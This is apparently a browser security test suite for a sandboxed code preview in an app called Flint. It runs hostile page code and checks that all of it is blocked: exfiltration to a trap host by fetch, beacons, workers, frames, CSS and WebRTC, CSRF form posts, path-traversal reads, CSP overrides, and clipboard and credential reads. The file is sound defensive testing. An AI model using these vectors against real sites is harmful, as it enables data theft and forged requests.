import { expect, test } from '../fixtures/attack.ts';

test('a program sends nothing to Flint’s own doors, whatever it sends it with', async ({ victim }) => {
  const tried = await victim.run(async ({ attempt, wait, flintUrl, sessionId }) => {
    const doors = [
      `${flintUrl}/api/sessions`,
      `${flintUrl}/api/sessions/${sessionId}/commands`,
      `${flintUrl}/api/sessions/${sessionId}/edit-token`,
      `/api/sessions/${sessionId}/presence`,
    ];
    const body = JSON.stringify({ type: 'rename-session', title: 'stolen' });
    for (const door of doors) {
      for (const mode of ['cors', 'no-cors', 'same-origin'] as const) {
        await attempt(`fetch ${mode}`, () =>
          fetch(door, { method: 'POST', mode, body, credentials: 'include', keepalive: true }),
        );
      }
      await attempt('sendBeacon', () => {
        navigator.sendBeacon(door, new Blob([body], { type: 'application/json' }));
        navigator.sendBeacon(door, body);
      });
      await attempt('XMLHttpRequest', () => {
        const request = new XMLHttpRequest();
        request.open('POST', door);
        request.withCredentials = true;
        request.send(body);
      });
    }
    for (const read of ['/api/models', `/api/sessions/${sessionId}/state`, `/s/${sessionId}`]) {
      await attempt('read', async () => (await fetch(flintUrl + read, { credentials: 'include' })).status);
      await attempt('read by another way', async () =>
        (await fetch(`${flintUrl}/preview/..%2f${read.slice(1)}`)).text(),
      );
    }
    await attempt('EventSource', () => void new EventSource(`${flintUrl}/api/sessions/${sessionId}/events?after=0`));
    await attempt('WebSocket', () => void new WebSocket(`${flintUrl.replace('http', 'ws')}/api/stolen`));
    await attempt('an image', () => {
      new Image().src = `${flintUrl}/api/sessions/stolen/export`;
      document.body.insertAdjacentHTML('beforeend', `<img src="${flintUrl}/s/${sessionId}/card?stolen">`);
    });
    await attempt('a script', () => {
      const script = document.createElement('script');
      script.src = `${flintUrl}/api/models?stolen`;
      document.head.append(script);
    });
    await wait(500);
  });
  // An address of Flint's is one of the session's own files to a program, and there is none.
  expect(tried.filter((one) => /^(?:fetch|read)/.test(one) && !/: (?:threw|404$|Not found$)/.test(one))).toEqual([]);
  const byFrame = victim.requests.filter(({ headers }) => headers.origin === 'null');
  expect(byFrame.filter(({ url }) => !url.startsWith('/preview/'))).toEqual([]);
  await victim.expectUntouched();
});

test('a form in a program is not sent, to Flint or to others, not even by a person’s click', async ({ victim }) => {
  const { trap } = victim;
  await victim.open({
    'index.html': `<h1>Forms</h1>
<form method="post" action="/api/sessions" enctype="text/plain"><input name='{"title":"stolen' value='"}'><button>one</button></form>
<form method="post" action="${trap.url}/stolen"><input name="a"><button>two</button></form>
<form method="get" action="${trap.url}/stolen"><button formmethod="post" formaction="${trap.url}/stolen2" formtarget="_top">three</button></form>
<form id="f" action="${trap.url}/stolen"></form><input form="f" name="b"><input type="submit" form="f" value="four" formtarget="_blank">
<form method="dialog" action="${trap.url}/stolen"><button>five</button></form>
<script>for (const form of document.forms) HTMLFormElement.prototype.submit.call(form);</script>
`,
  });
  const { preview } = victim.workspace;
  for (const name of ['one', 'two', 'three', 'four', 'five']) await preview.getByRole('button', { name }).click();
  await preview.locator('input[name=a]').press('Enter');
  await expect(preview.getByRole('heading')).toHaveText('Forms');
  expect(victim.requests.filter(({ method, url }) => method === 'POST' && url === '/api/sessions')).toEqual([]);
  await victim.expectUntouched();
});

test('a program tells other servers nothing by what it asks for', async ({ victim }) => {
  const tried = await victim.run(async ({ attempt, wait, trapUrl }) => {
    const at = (name: string) => `${trapUrl}/${name}?stolen`;
    await attempt('fetch', () => fetch(at('fetch')));
    await attempt('fetch no-cors', () => fetch(at('no-cors'), { mode: 'no-cors', method: 'POST', body: 'stolen' }));
    await attempt('fetch keepalive', () => fetch(at('keepalive'), { keepalive: true }));
    await attempt('sendBeacon', () => void navigator.sendBeacon(at('beacon'), 'stolen'));
    await attempt('EventSource', () => void new EventSource(at('events')));
    await attempt('WebSocket', () => void new WebSocket(at('socket').replace('http', 'ws')));
    await attempt('WebTransport', () => new WebTransport(at('transport').replace('http:', 'https:')).ready);
    await attempt('import', () => import(/* @vite-ignore */ at('import')));
    await attempt('Audio', () => new Audio(at('audio')).load());
    await attempt('Image', () => void Object.assign(new Image(), { src: at('image'), srcset: at('srcset') }));
    await attempt('a font', () => new FontFace('x', `url(${at('font')})`).load());
    await attempt('elements', () => {
      const address = at('element');
      for (const html of [
        `<script src="${address}"></script>`,
        `<link rel="stylesheet" href="${address}">`,
        ...['preload', 'prefetch', 'prerender', 'modulepreload', 'icon', 'manifest', 'next', 'alternate'].map(
          (rel) => `<link rel="${rel}" as="fetch" crossorigin href="${address}">`,
        ),
        `<img src="${address}"><picture><source srcset="${address}"><img></picture><input type="image" src="${address}">`,
        `<video src="${address}" poster="${address}" autoplay><track default src="${address}"></video>`,
        `<audio src="${address}" autoplay></audio><embed src="${address}"><object data="${address}"></object>`,
        `<svg><image href="${address}"/><use href="${address}#a"/><filter id="f"><feImage href="${address}"/></filter></svg>`,
        `<div style="background:url(${address});border-image:url(${address}) 1;cursor:url(${address}),auto;mask:url(${address})">x</div>`,
        `<style>@import url(${address}); @font-face { font-family: y; src: url(${address}) } p { font-family: y; list-style: url(${address}) } p::before { content: url(${address}) }</style><p>y</p>`,
        `<body background="${address}"><table background="${address}"></table><math href="${address}"></math>`,
      ]) {
        document.body.append(document.createRange().createContextualFragment(html));
      }
    });
    await attempt('speculation', () => {
      const rules = document.createElement('script');
      rules.type = 'speculationrules';
      const one = { source: 'list', urls: [at('speculation')], eagerness: 'immediate' };
      rules.textContent = JSON.stringify({ prefetch: [one], prerender: [one] });
      document.head.append(rules);
    });
    await wait(1_000);
  });
  expect(tried.filter((one) => /^(?:fetch|import|WebTransport|a font)/.test(one) && !/: threw/.test(one))).toEqual([]);
  await victim.expectUntouched();
});

test('a frame within a program asks no other server for a page', async ({ victim }) => {
  await victim.run(async ({ attempt, wait, trapUrl }) => {
    await attempt('a frame', () => {
      document.body.insertAdjacentHTML('beforeend', `<iframe src="${trapUrl}/stolen"></iframe>`);
    });
    await wait(800);
  });
  // Chromium opens the connection before it looks at the policy. Nothing is sent over it.
  expect(victim.trap.caught.filter((one) => one !== 'a connection')).toEqual([]);
  expect(victim.incidents).toEqual([]);
});

test('workers of a program have no more network than it has', async ({ victim }) => {
  const tried = await victim.run(async ({ attempt, trapUrl }) => {
    const code = `(async () => {
      const said = [];
      for (const [name, act] of Object.entries({
        fetch: () => fetch('${trapUrl}/stolen'),
        beacon: () => fetch('${trapUrl}/stolen', { method: 'POST', mode: 'no-cors', body: 'stolen' }),
        importScripts: () => importScripts('${trapUrl}/stolen'),
        import: () => import('${trapUrl}/stolen'),
        socket: () => new Promise((resolve, reject) => { const one = new WebSocket('${trapUrl.replace('http', 'ws')}/stolen'); one.onopen = resolve; one.onerror = () => reject(Error()); }),
        events: () => new Promise((resolve, reject) => { const one = new EventSource('${trapUrl}/stolen'); one.onopen = resolve; one.onerror = () => reject(Error()); }),
        database: () => new Promise((resolve, reject) => { const one = indexedDB.open('stolen'); one.onsuccess = resolve; one.onerror = reject; }),
      })) {
        try { await act(); said.push(name + ' went through'); } catch { said.push(name + ' refused'); }
      }
      postMessage(said.join(', '));
    })()`;
    for (const [kind, address] of [
      ['blob', URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))],
      ['data', `data:text/javascript,${encodeURIComponent(code)}`],
    ] as const) {
      await attempt(kind, () => {
        const worker = new Worker(address);
        return new Promise((resolve, reject) => {
          worker.addEventListener('message', ({ data }: MessageEvent<string>) => resolve(data));
          worker.addEventListener('error', () => reject(new Error('refused')));
        });
      });
    }
    await attempt('from the origin', () => {
      const worker = new Worker('/preview/frame.js');
      return new Promise((resolve, reject) => {
        worker.addEventListener('error', () => reject(new Error('refused')));
        setTimeout(() => resolve('started'), 1_000);
      });
    });
  });
  for (const one of tried) expect(one).not.toContain('went through');
  expect(tried[0]).toContain('fetch refused');
  expect(tried[2]).toMatch(/threw/);
  await victim.expectUntouched();
});

test('frames that a program makes within its own have no more rights than it has', async ({ victim }) => {
  const tried = await victim.run(async ({ attempt, wait, trapUrl, flintUrl }) => {
    const code = `
      const tell = (text) => parent.postMessage(text, '*');
      try { top.location = '${trapUrl}/stolen'; } catch { tell('top refused'); }
      try { localStorage.x; tell('storage went through'); } catch { tell('storage refused'); }
      fetch('${trapUrl}/stolen').then(() => tell('fetch went through'), () => tell('fetch refused'));
      try { tell(open('${trapUrl}/stolen') ? 'open went through' : 'open refused'); } catch { tell('open refused'); }
      new Image().src = '${trapUrl}/stolen';
    `;
    const page =
      `<base href="${trapUrl}/"><meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' data: blob:"><script>${code}</` +
      `script>`;
    const heard: string[] = [];
    addEventListener('message', ({ data }) => typeof data === 'string' && heard.push(data));
    for (const rights of [
      null,
      'allow-scripts allow-same-origin allow-top-navigation allow-popups allow-modals allow-downloads',
    ]) {
      for (const how of ['srcdoc', 'data', 'blob', 'blank', 'javascript', 'self', 'flint'] as const) {
        await attempt(`${how} ${rights === null ? '' : 'with a sandbox of its own'}`, () => {
          const frame = document.createElement('iframe');
          if (rights !== null) frame.setAttribute('sandbox', rights);
          if (how === 'srcdoc') frame.srcdoc = page;
          if (how === 'data') frame.src = `data:text/html,${encodeURIComponent(page)}`;
          if (how === 'blob') frame.src = URL.createObjectURL(new Blob([page], { type: 'text/html' }));
          if (how === 'javascript') frame.src = `javascript:${encodeURIComponent(code)}`;
          if (how === 'self') frame.src = '/preview/frame';
          if (how === 'flint') frame.src = `${flintUrl}/s/stolen`;
          document.body.append(frame);
          if (how === 'blank') {
            frame.contentDocument?.write(page);
            frame.contentDocument?.close();
          }
        });
      }
    }
    await wait(800);
    await attempt('what they say', () => heard.join(', '));
  });
  const said = tried.at(-1) ?? '';
  expect(said).toContain('storage refused');
  expect(said).not.toContain('went through');
  await victim.expectUntouched();
});

test('a program does not get rid of its policy by base, meta or changed attributes', async ({ victim }) => {
  await victim.run(async ({ attempt, wait, trapUrl }) => {
    await attempt('meta', () => {
      document.head.insertAdjacentHTML(
        'afterbegin',
        `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'; img-src *; connect-src *; frame-src *">
         <meta http-equiv="Content-Security-Policy-Report-Only" content="default-src 'none'; report-uri ${trapUrl}/stolen">
         <meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${trapUrl}/stolen; report-to x">
         <meta http-equiv="Reporting-Endpoints" content="x=&quot;${trapUrl}/stolen&quot;">
         <meta http-equiv="Set-Cookie" content="stolen=1">
         <meta name="referrer" content="unsafe-url">`,
      );
      new Image().src = `${trapUrl}/stolen`;
    });
    await attempt('base', () => {
      document.head.insertAdjacentHTML('afterbegin', `<base href="${trapUrl}/">`);
      new Image().src = 'stolen';
      return fetch('stolen');
    });
    await attempt('a written document', () => {
      const other = document.implementation.createHTMLDocument();
      other.body.innerHTML = `<img src="${trapUrl}/stolen"><script src="${trapUrl}/stolen"></` + `script>`;
      document.body.append(document.adoptNode(other.body.firstElementChild as Element));
    });
    await attempt('open and write again', () => {
      const inner = document.createElement('iframe');
      document.body.append(inner);
      inner.setAttribute('sandbox', 'allow-same-origin allow-scripts');
      inner.removeAttribute('sandbox');
      inner.srcdoc = `<img src="${trapUrl}/stolen">`;
      inner.setAttribute('csp', 'default-src *');
      inner.setAttribute('allow', 'camera; fullscreen; clipboard-read');
      inner.setAttribute('credentialless', '');
    });
    await wait(600);
  });
  await victim.expectUntouched();
});

test('a request as a program in the preview would send it is refused, with the right token too', async ({ victim }) => {
  await victim.open({ 'index.html': '<h1>Mine</h1>' });
  const { door } = victim;
  const body = JSON.stringify({ type: 'rename-session', title: 'stolen' });
  for (const headers of [
    { origin: 'null' },
    { origin: 'null', 'sec-fetch-site': 'cross-site' },
    { 'sec-fetch-site': 'cross-site' },
    { origin: victim.trap.url },
  ]) {
    expect((await door.post(body, headers)).status).toBe(403);
    const made = await fetch(`${victim.flintUrl}/api/sessions`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...headers },
      body: '{}',
    });
    expect(made.status).toBe(403);
    expect(made.headers.get('access-control-allow-origin')).toBeNull();
  }
  for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
    expect((await door.post(body, { 'content-type': type })).status).toBe(415);
  }
  expect(
    (await fetch(`${victim.flintUrl}/api/sessions/${door.sessionId}/state`)).headers.get('access-control-allow-origin'),
  ).toBeNull();
});

test('a program sends no packets past its policy', async ({ victim }) => {
  const tried = await victim.run(async ({ attempt, wait, trapUdpPort }) => {
    await attempt('WebRTC', () => {
      const servers = [{ urls: `stun:127.0.0.1:${trapUdpPort}` }];
      const connection = new RTCPeerConnection({ iceServers: servers });
      connection.createDataChannel('stolen');
      return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
    });
    await attempt('WebRTC under its old name', () =>
      Reflect.construct(Reflect.get(window, 'webkitRTCPeerConnection'), []),
    );
    await wait(1_000);
  });
  expect(tried).toEqual(['WebRTC: threw ReferenceError', 'WebRTC under its old name: threw TypeError']);
  await victim.expectUntouched();
});

test('a program gets nothing of the device, even where the person has allowed Flint to have it', async ({ victim }) => {
  await victim.page
    .context()
    .grantPermissions(['clipboard-read', 'clipboard-write', 'geolocation', 'camera', 'microphone', 'notifications']);
  await victim.page.goto('/');
  await victim.page.evaluate(() => navigator.clipboard.writeText('a secret'));
  const tried = await victim.run(async ({ attempt }) => {
    await attempt('clipboard.readText', () => navigator.clipboard.readText());
    await attempt('clipboard.read', () => navigator.clipboard.read());
    await attempt('clipboard.writeText', () => navigator.clipboard.writeText('stolen'));
    await attempt('execCommand paste', () => {
      const field = document.createElement('textarea');
      document.body.append(field);
      field.select();
      document.execCommand('paste');
      return field.value || null;
    });
    await attempt(
      'geolocation',
      () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
    );
    await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
    await attempt('microphone', () => navigator.mediaDevices.getUserMedia({ audio: true }));
    await attempt('the screen', () => navigator.mediaDevices.getDisplayMedia());
    await attempt('notifications', () => (Notification.permission === 'granted' ? 'granted' : null));
    await attempt('wake lock', () => navigator.wakeLock.request('screen'));
    await attempt('share', () => navigator.share({ text: 'stolen' }));
    await attempt('payment', () =>
      new PaymentRequest([{ supportedMethods: 'https://x.example' }], {
        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
      }).show(),
    );
    await attempt('credentials', () => navigator.credentials.get({ password: true } as CredentialRequestOptions));
  });
  for (const one of tried) expect(one).toMatch(/: (?:threw|null|no answer)/);
  expect(await victim.page.evaluate(() => navigator.clipboard.readText())).toBe('a secret');
  await victim.expectUntouched();
});
